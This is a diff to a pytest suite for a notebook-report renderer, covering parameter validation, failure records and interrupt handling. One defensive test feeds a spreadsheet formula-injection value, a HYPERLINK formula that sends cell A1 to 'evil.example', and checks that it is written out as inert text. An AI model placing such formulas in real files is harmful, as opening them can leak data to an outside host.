@@ -49,8 +49,8 @@ if marker:
 time.sleep(wait)
 assert not boom, "boom requested"
 rng = np.random.default_rng(seed)
-display.table(pd.DataFrame({"year": [2024, 2025, 2026], "value": rng.normal(size=3)}),
-              "draws", L)
+display.table(pd.DataFrame({"year": [2024, 2025, 2026], "value": rng.normal(size=3),
+                           "label": [title] * 3}), "draws", L)
 print("secret_code_marker = 42")'''
 
 
@@ -94,7 +94,7 @@ def test_unknown_parameter_wrong_type_and_domain_fail_before_any_kernel(nbs, mon
         _plan(nbs, sead=3)
     with pytest.raises(UsageError, match="'seed': value 'x' is not an integer"):
         _plan(nbs, seed="x")
-    with pytest.raises(UsageError, match=r"'seed': value -1 is outside"):
+    with pytest.raises(UsageError, match=r"'seed': value -1 must be an integer seed"):
         _plan(nbs, seed=-1)
     with pytest.raises(UsageError, match="use --lang"):
         _plan(nbs, lang="en")
@@ -102,6 +102,14 @@ def test_unknown_parameter_wrong_type_and_domain_fail_before_any_kernel(nbs, mon
         planning.plan(notebooks=["nope"], notebooks_dir=nbs)
     with pytest.raises(UsageError, match="not a valid name"):
         planning.plan(notebooks=["../10_fixture"], notebooks_dir=nbs)
+
+
+@pytest.mark.parametrize("value,needle", [("\x1b[2Jx", "control character"),
+                                          ("a" * 5000, "at most 1000 characters"),
+                                          ("line\nbreak", "control character")])
+def test_text_parameters_refuse_escapes_and_floods(nbs, value, needle):
+    with pytest.raises(UsageError, match=needle):
+        _plan(nbs, title=value)
 
 
 def test_plan_builds_validated_jobs(nbs):
@@ -217,6 +225,31 @@ def test_render_outputs_and_failure_isolation(nbs, tmp_path):
 
 
 @pytest.mark.slow
+def test_cli_render_writes_formulas_as_text(nbs, tmp_path):
+    import zipfile
+
+    import openpyxl
+
+    out = tmp_path / "out"
+    title = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
+    env = dict(os.environ, PYTHONPATH=str(ROOT), HPRESEARCH_NOTEBOOKS_DIR=str(nbs))
+    proc = subprocess.run([sys.executable, "-m", "hpresearch", "render", "--notebook",
+                           "10_fixture", "--lang", "en", "--out", str(out), "-p", "title", title,
+                           "--no-progress"], capture_output=True, text=True, cwd=ROOT, env=env)
+    assert proc.returncode == 0, proc.stderr
+    folder = out / "10_fixture.en"
+    csv_text = (folder / "tables" / "draws.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text
+    xlsx = folder / "10_fixture.en.xlsx"
+    with zipfile.ZipFile(xlsx) as z:
+        assert not any("<f>" in z.read(n).decode("utf-8", "replace") for n in z.namelist())
+    wb = openpyxl.load_workbook(xlsx)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert all(c.data_type in ("s", "n") for c in cells)
+    assert any(c.value == title for c in cells)
+
+
+@pytest.mark.slow
 def test_same_seed_gives_identical_tables_and_parallel_workers(nbs, tmp_path):
     jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs,
                        parameters={"seed": 3})
@@ -239,6 +272,7 @@ def test_dead_kernel_fails_only_its_report(nbs, tmp_path):
     summary = render.render(jobs, tmp_path / "out", n_jobs=1, progress=False)
     assert [r.ok for r in summary.results] == [False, True]
     assert "Dead" in summary.results[0].error or "died" in summary.results[0].error
+    _assert_failure_record(tmp_path / "out", "10_fixture.en", "dead kernel")
 
 
 @pytest.mark.slow
@@ -249,41 +283,77 @@ def test_hung_cell_times_out_and_fails_only_its_report(nbs, tmp_path):
     summary = render.render(jobs, tmp_path / "out", n_jobs=1, progress=False)
     assert [r.ok for r in summary.results] == [False, True]
     assert "Timeout" in summary.results[0].error or "timed out" in summary.results[0].error
+    nb = _assert_failure_record(tmp_path / "out", "10_fixture.en", "cell timeout")
+    failed_cells = [c for c in nb.cells if c.metadata.get("papermill", {}).get("status") == "failed"]
+    assert failed_cells and any(o.get("output_type") == "error" for o in failed_cells[0].outputs)
+
+
+def _assert_failure_record(out: Path, stem: str, kind: str):
+    """The documented failure record: <stem>.failed.ipynb (partial) and .failed.json."""
+    marker = json.loads((out / f"{stem}.failed.json").read_text())
+    assert marker["error"].startswith(kind) and marker["notebook_file"] == f"{stem}.failed.ipynb"
+    nb = nbformat.read(out / f"{stem}.failed.ipynb", as_version=4)
+    assert nb.metadata["hpresearch"]["failure"]["kind"] == kind
+    assert f"{stem}.failed.ipynb" in (out / "index.html").read_text()
+    return nb
+
+
+def _default_sigint():
+    """In the child: SIGINT back to its default. A shell starts background jobs (`make test &`,
+    nohup, some CI runners) with SIGINT ignored, and Python then installs no Ctrl-C handler."""
+    signal.signal(signal.SIGINT, signal.SIG_DFL)
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGKILL], ids=["sigint", "sigkill"])
-def test_interrupted_render_leaves_previous_report_intact(nbs, tmp_path, sig):
+@pytest.mark.parametrize("sig,jobs", [(signal.SIGINT, "1"), (signal.SIGINT, "2"),
+                                      (signal.SIGKILL, "1")],
+                         ids=["sigint", "sigint-workers", "sigkill"])
+def test_interrupted_render_leaves_previous_report_intact(nbs, tmp_path, sig, jobs):
     out = tmp_path / "out"
-    jobs = planning.plan(notebooks=["10_fixture"], langs=["en"], notebooks_dir=nbs)
-    assert render.render(jobs, out, n_jobs=1, progress=False).ok
-    snapshot = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
+    plan_jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs)
+    assert render.render(plan_jobs, out, n_jobs=1, progress=False).ok
+    snapshot = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()
+                and p.name != "index.html"}
     marker = tmp_path / "started"
-    code = (f"from hpresearch.render import batch as render\n"
-            f"from hpresearch.render import plan as planning\n"
-            f"jobs = planning.plan(notebooks=['10_fixture'], langs=['en'], notebooks_dir={str(nbs)!r},"
-            f" parameters={{'wait': 60.0, 'marker': {str(marker)!r}, 'seed': 99}})\n"
-            f"render.render(jobs, {str(out)!r}, n_jobs=1, progress=False)\n")
-    proc = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT,
-                            env=dict(os.environ, PYTHONPATH=str(ROOT)),
-                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    env = dict(os.environ, PYTHONPATH=str(ROOT), HPRESEARCH_NOTEBOOKS_DIR=str(nbs))
+    proc = subprocess.Popen([sys.executable, "-m", "hpresearch", "render", "--notebook",
+                             "10_fixture", "--lang", "all", "--jobs", jobs, "--out", str(out),
+                             "-p", "wait", "60", "-p", "marker", str(marker), "-p", "seed", "99",
+                             "--no-progress"],
+                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, preexec_fn=_default_sigint)
     try:
         for _ in range(600):
             if marker.exists():
                 break
             time.sleep(0.1)
         assert marker.exists(), "the fixture kernel never started"
+        time.sleep(0.5)
         proc.send_signal(sig)
-        proc.wait(timeout=60)
+        _, err = proc.communicate(timeout=90)
     finally:
         if proc.poll() is None:
             proc.kill()
     now = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()
            and not any(part.startswith(".") for part in p.relative_to(out).parts)}
-    assert now == snapshot
+    failed = {p for p in now if ".failed." in p.name}
+    assert {p: now[p] for p in now if p not in failed and p.name != "index.html"} == snapshot
+    if sig == signal.SIGINT:
+        # one line, exit 130, no traceback; the interrupted report's failure record is
+        # written beside the previous good one, and the index shows both
+        assert proc.returncode == 130, err
+        assert err.strip() == "error: interrupted" or err.strip().endswith("error: interrupted")
+        assert "Traceback" not in err and "Task exception" not in err, err
+        stems = {p.name.split(".failed.")[0] for p in failed}
+        assert stems and stems <= {"10_fixture.vi", "10_fixture.en"}
+        for stem in stems:
+            _assert_failure_record(out, stem, "interrupted")
+        page = (out / "index.html").read_text(encoding="utf-8")
+        assert "10_fixture.vi/10_fixture.vi.html" in page  # the previous report still linked
     # the next render cleans any staging debris and still works
-    assert render.render(jobs, out, n_jobs=1, progress=False).ok
+    assert render.render(plan_jobs, out, n_jobs=1, progress=False).ok
     assert not [p for p in out.iterdir() if p.name.startswith(".")]
+    assert not [p for p in out.iterdir() if ".failed." in p.name]
 
 
 @pytest.mark.slow
